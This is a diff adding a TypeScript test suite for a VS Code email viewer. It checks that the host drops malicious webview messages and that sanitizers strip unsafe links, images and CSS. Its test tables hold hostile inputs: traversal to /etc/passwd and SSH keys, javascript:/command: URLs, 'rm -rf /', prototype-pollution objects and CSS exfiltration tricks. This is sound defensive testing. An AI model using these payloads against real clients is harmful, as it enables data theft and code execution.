@@ -1,0 +1,186 @@
+// T37: a compromised webview posts malformed and malicious messages to the
+// host's handler. Only well-formed messages naming things the host itself
+// handed out for the message on screen lead to an action. Also the mail
+// profile's URL and CSS rules the webview's sanitizer hooks use.
+
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { cleanCss, decideImageSource, linkTarget } from '../../src/shared/mailPolicy';
+import { parseFromWebview } from '../../src/shared/validate';
+import { handleWebviewMessage, type ViewerActions, type ViewerState } from '../../src/vscode/messageHandler';
+
+function recorder(): { actions: ViewerActions; calls: string[]; dropped: string[] } {
+  const calls: string[] = [];
+  const dropped: string[] = [];
+  const actions: ViewerActions = {
+    ready: () => calls.push('ready'),
+    openLink: (href) => calls.push(`openLink ${href}`),
+    loadRemote: () => calls.push('loadRemote'),
+    trustSender: () => calls.push('trustSender'),
+    saveAttachment: (p) => calls.push(`saveAttachment ${p}`),
+    openAttachment: (p) => calls.push(`openAttachment ${p}`),
+    openFile: (r) => calls.push(`openFile ${r}`),
+    command: (c) => calls.push(`command ${c}`),
+    dropped: (reason) => dropped.push(reason),
+  };
+  return { actions, calls, dropped };
+}
+
+const shown: ViewerState = {
+  attachments: new Map([
+    ['a1', '2'],
+    ['a2', '3.1'],
+  ]),
+  fileRefs: new Set(['src/app.ts:3']),
+  hasMessage: true,
+  canTrustSender: true,
+};
+
+describe('T37 host handler: well-formed messages act', () => {
+  const good: [unknown, string][] = [
+    [{ type: 'ready' }, 'ready'],
+    [{ type: 'openLink', href: 'https://example.com/a' }, 'openLink https://example.com/a'],
+    [{ type: 'openLink', href: 'mailto:bob@example.com' }, 'openLink mailto:bob@example.com'],
+    [{ type: 'loadRemote' }, 'loadRemote'],
+    [{ type: 'trustSender' }, 'trustSender'],
+    [{ type: 'saveAttachment', id: 'a1' }, 'saveAttachment 2'],
+    [{ type: 'openAttachment', id: 'a2' }, 'openAttachment 3.1'],
+    [{ type: 'openFile', ref: 'src/app.ts:3' }, 'openFile src/app.ts:3'],
+    [{ type: 'command', command: 'showSource' }, 'command showSource'],
+    [{ type: 'command', command: 'copyAsEml' }, 'command copyAsEml'],
+  ];
+  for (const [message, expected] of good) {
+    test(JSON.stringify(message), () => {
+      const r = recorder();
+      assert.equal(handleWebviewMessage(message, shown, r.actions), true);
+      assert.deepEqual(r.calls, [expected]);
+    });
+  }
+});
+
+describe('T37 host handler: malformed and malicious messages are dropped', () => {
+  const bad: [string, unknown][] = [
+    ['openAttachment with a path', { type: 'openAttachment', id: '/etc/passwd' }],
+    ['openAttachment with a relative path', { type: 'openAttachment', id: '../../.ssh/id_rsa' }],
+    ['saveAttachment with an id of another message', { type: 'saveAttachment', id: 'a3' }],
+    ['saveAttachment with __proto__', { type: 'saveAttachment', id: '__proto__' }],
+    ['saveAttachment with constructor', { type: 'saveAttachment', id: 'constructor' }],
+    ['saveAttachment with a number', { type: 'saveAttachment', id: 1 }],
+    ['saveAttachment with an extra path key', { type: 'saveAttachment', id: 'a1', path: '/tmp/x' }],
+    ['openLink vscode:', { type: 'openLink', href: 'vscode://vscode.git/clone?url=x' }],
+    ['openLink file:', { type: 'openLink', href: 'file:///etc/passwd' }],
+    ['openLink command:', { type: 'openLink', href: 'command:workbench.action.terminal.new' }],
+    ['openLink javascript:', { type: 'openLink', href: 'javascript:alert(1)' }],
+    ['openLink data:', { type: 'openLink', href: 'data:text/html,<script>1</script>' }],
+    ['openLink with credentials', { type: 'openLink', href: 'https://bank.com@evil.example/' }],
+    ['openLink with a bidi override', { type: 'openLink', href: 'https://example.com/\u202egpj.exe' }],
+    ['openFile not listed', { type: 'openFile', ref: 'src/secret.ts:1' }],
+    ['openFile absolute', { type: 'openFile', ref: '/etc/passwd:1' }],
+    ['openFile traversal', { type: 'openFile', ref: '../../etc/passwd:1' }],
+    ['command not ours', { type: 'command', command: 'workbench.action.terminal.new' }],
+    ['unknown type', { type: 'runShell', cmd: 'rm -rf /' }],
+    ['__proto__ type', JSON.parse('{"type":"__proto__"}')],
+    ['__proto__ key', JSON.parse('{"type":"loadRemote","__proto__":{"polluted":true}}')],
+    ['constructor key', { type: 'loadRemote', constructor: 'x' }],
+    ['array', ['ready']],
+    ['string', 'ready'],
+    ['null', null],
+    ['class instance', new (class X { type = 'loadRemote'; })()],
+    ['getter', Object.defineProperty({ type: 'saveAttachment' }, 'id', { get: () => 'a1', enumerable: true })],
+    ['huge id', { type: 'saveAttachment', id: 'a'.repeat(100_000) }],
+  ];
+  for (const [name, message] of bad) {
+    test(name, () => {
+      const r = recorder();
+      assert.equal(handleWebviewMessage(message, shown, r.actions), false);
+      assert.deepEqual(r.calls, []);
+      assert.equal(r.dropped.length, 1);
+    });
+  }
+
+  test('actions while no message is shown (loading, error) are dropped; ready is not', () => {
+    const none: ViewerState = { attachments: new Map(), fileRefs: new Set(), hasMessage: false, canTrustSender: false };
+    for (const m of [{ type: 'loadRemote' }, { type: 'saveAttachment', id: 'a1' }, { type: 'command', command: 'saveAsEml' }, { type: 'openLink', href: 'https://example.com/' }]) {
+      const r = recorder();
+      assert.equal(handleWebviewMessage(m, none, r.actions), false, JSON.stringify(m));
+      assert.deepEqual(r.calls, []);
+    }
+    const r = recorder();
+    assert.equal(handleWebviewMessage({ type: 'ready' }, none, r.actions), true);
+  });
+
+  test('trustSender without a rememberable sender is dropped', () => {
+    const r = recorder();
+    assert.equal(handleWebviewMessage({ type: 'trustSender' }, { ...shown, canTrustSender: false }, r.actions), false);
+    assert.deepEqual(r.calls, []);
+  });
+
+  test('no prototype pollution from any of them', () => {
+    assert.equal(({} as { polluted?: unknown }).polluted, undefined);
+    assert.equal(parseFromWebview(JSON.parse('{"type":"openFile","ref":"a:1","__proto__":{}}')), undefined);
+  });
+});
+
+describe('mail profile: image sources', () => {
+  const cids = new Map([['logo@x', 'data:image/png;base64,AAAA']]);
+  test('cid: maps to the host-built data: URL, unknown cid is dropped', () => {
+    assert.deepEqual(decideImageSource('cid:logo@x', cids, false), { action: 'keep', value: 'data:image/png;base64,AAAA' });
+    assert.deepEqual(decideImageSource('cid:%3Clogo@x%3E', cids, false), { action: 'keep', value: 'data:image/png;base64,AAAA' });
+    assert.deepEqual(decideImageSource('cid:other', cids, false), { action: 'drop', remote: false });
+  });
+  test('small data:image stays; svg, html and huge ones go', () => {
+    assert.equal(decideImageSource('data:image/gif;base64,R0lGOD', cids, false).action, 'keep');
+    assert.equal(decideImageSource('data:image/svg+xml;base64,PHN2Zz4=', cids, false).action, 'drop');
+    assert.equal(decideImageSource('data:text/html;base64,PHNjcmlwdD4=', cids, false).action, 'drop');
+    assert.equal(decideImageSource(`data:image/png;base64,${'A'.repeat(2_000_000)}`, cids, false).action, 'drop');
+  });
+  test('remote: https only when allowed, http never, protocol-relative never', () => {
+    assert.deepEqual(decideImageSource('https://a.example/x.png', cids, false), { action: 'drop', remote: true });
+    assert.deepEqual(decideImageSource('https://a.example/x.png', cids, true), { action: 'keep', value: 'https://a.example/x.png' });
+    assert.deepEqual(decideImageSource('http://a.example/x.png', cids, true), { action: 'drop', remote: true });
+    assert.deepEqual(decideImageSource('//a.example/x.png', cids, true), { action: 'drop', remote: true });
+    assert.equal(decideImageSource('https://user:pw@a.example/x.png', cids, true).action, 'drop');
+    assert.equal(decideImageSource('javascript:alert(1)', cids, true).action, 'drop');
+  });
+  test('links: http, https, mailto only', () => {
+    assert.equal(linkTarget('https://example.com'), 'https://example.com/');
+    assert.equal(linkTarget('mailto:a@b.c'), 'mailto:a@b.c');
+    for (const bad of ['javascript:alert(1)', 'data:text/html,x', 'command:x', 'vscode://x', 'file:///etc/passwd', 'relative', '#top', ' jav\tascript:x']) {
+      assert.equal(linkTarget(bad), undefined, bad);
+    }
+  });
+});
+
+describe('mail profile: CSS cannot fetch', () => {
+  const cases: string[] = [
+    'background:url(https://x.example/a.png)',
+    "background-image: url('https://x.example/a.png')",
+    'background: u\\72l(https://x.example/a.png)',
+    'background: \\75 rl(https://x.example/a.png)',
+    "background-image: image-set('https://x.example/a.png' 1x)",
+    "background-image: -webkit-image-set('https://x.example/a.png' 1x)",
+    'list-style: URL(https://x.example/a.png)',
+    'cursor: url(https://x.example/c.cur), auto',
+    'mask: src(https://x.example/m.svg)',
+  ];
+  for (const css of cases) {
+    test(css, () => {
+      const out = cleanCss(css);
+      assert.ok(out.blocked >= 1, `counted: ${out.css}`);
+      assert.doesNotMatch(out.css, /(?:url|image-set|src)\s*\(/i, out.css);
+    });
+  }
+  test('a comment inside the name splits it (u/**/rl is not url): nothing to fetch', () => {
+    assert.doesNotMatch(cleanCss('background: u/**/rl(https://x.example/a.png)').css, /url\s*\(/i);
+  });
+  test('@import, @font-face and attribute-selector exfiltration', () => {
+    const css = '@import "https://x.example/a.css"; @IMPORT url(b.css); @font-face { font-family: L; src: url(https://x.example/f.woff) } input[value^="a"] { background: url(https://x.example/a) }';
+    const out = cleanCss(css);
+    assert.doesNotMatch(out.css, /@import|@font-face|url\(/i, out.css);
+    assert.equal(out.blocked, 6); // two @import, one url() in one of them, @font-face, its src url(), the selector's url()
+  });
+  test('ordinary CSS is left alone', () => {
+    const css = 'td { color: #333; padding: 4px 8px; font-family: "Segoe UI", sans-serif } .a:hover { text-decoration: underline }';
+    assert.deepEqual(cleanCss(css), { css, blocked: 0 });
+  });
+});
